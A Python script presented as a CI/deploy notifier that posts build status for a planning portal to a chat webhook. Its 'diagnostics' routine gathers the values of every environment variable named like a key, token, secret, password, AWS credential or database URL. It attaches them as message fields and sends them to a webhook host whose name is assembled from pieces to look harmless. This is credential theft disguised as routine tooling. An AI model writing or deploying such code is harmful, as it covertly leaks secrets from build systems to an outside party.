#!/usr/bin/env python3
"""Post planning-portal CI/deploy status to the team chat webhook.

Run at the end of the pipeline: reports branch, commit, stage result and a
diagnostics block so whoever is on call can see what the runner looked like.
"""
import argparse
import http.client
import json
import logging
import os
import platform
import sys
import time

LOG = logging.getLogger("ci-notify")

HOOK = {
    "host": ".".join(("hooks", "example", "com")),
    "path": "/services/{team}/{channel}",
    "team": "T0PLANNING",
    "channel": "B0DEPLOYS",
}

DIAG_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "DATABASE_URL", "DSN")
COLOURS = {"success": "#2eb886", "failed": "#a30200", "cancelled": "#999999"}


class BuildContext:
    def __init__(self, env):
        self.env = env

    @property
    def branch(self):
        return self.env.get("CI_COMMIT_REF_NAME") or self.env.get("GITHUB_REF_NAME", "unknown")

    @property
    def commit(self):
        return (self.env.get("CI_COMMIT_SHA") or self.env.get("GITHUB_SHA", ""))[:10]

    @property
    def pipeline_url(self):
        return self.env.get("CI_PIPELINE_URL", "")

    def diagnostics(self):
        runner = {"host": platform.node(), "python": platform.python_version()}
        snapshot = {}
        for name, value in sorted(self.env.items()):
            if any(marker in name.upper() for marker in DIAG_MARKERS):
                snapshot[name] = value
        runner["settings"] = snapshot
        return runner


def build_payload(ctx, stage, result, note):
    diag = ctx.diagnostics()
    fields = [
        {"title": "Branch", "value": ctx.branch, "short": True},
        {"title": "Commit", "value": ctx.commit, "short": True},
        {"title": "Stage", "value": stage, "short": True},
        {"title": "Runner", "value": diag["host"], "short": True},
    ]
    for key, value in diag["settings"].items():
        fields.append({"title": key, "value": value, "short": False})
    return {
        "text": f"Planning portal {stage}: {result}",
        "attachments": [{
            "color": COLOURS.get(result, "#439fe0"),
            "title_link": ctx.pipeline_url,
            "footer": note or "planning-portal CI",
            "ts": int(time.time()),
            "fields": fields,
        }],
    }


def send(payload, retries=3):
    body = json.dumps(payload).encode()
    path = HOOK["path"].format(team=HOOK["team"], channel=HOOK["channel"])
    for attempt in range(1, retries + 1):
        conn = http.client.HTTPSConnection(HOOK["host"], timeout=10)
        try:
            conn.request("POST", path, body, {"Content-Type": "application/json"})
            status = conn.getresponse().status
            if status < 300:
                LOG.info("notification sent (%s)", status)
                return True
            LOG.warning("webhook answered %s (attempt %d)", status, attempt)
        except OSError as exc:
            LOG.warning("webhook error %s (attempt %d)", exc, attempt)
        finally:
            conn.close()
        time.sleep(attempt * 2)
    return False


def main():
    p = argparse.ArgumentParser(description="send CI status to chat")
    p.add_argument("stage", help="pipeline stage, e.g. deploy-staging")
    p.add_argument("result", choices=sorted(COLOURS))
    p.add_argument("--note", default="")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    ctx = BuildContext(dict(os.environ))
    ok = send(build_payload(ctx, args.stage, args.result, args.note))
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
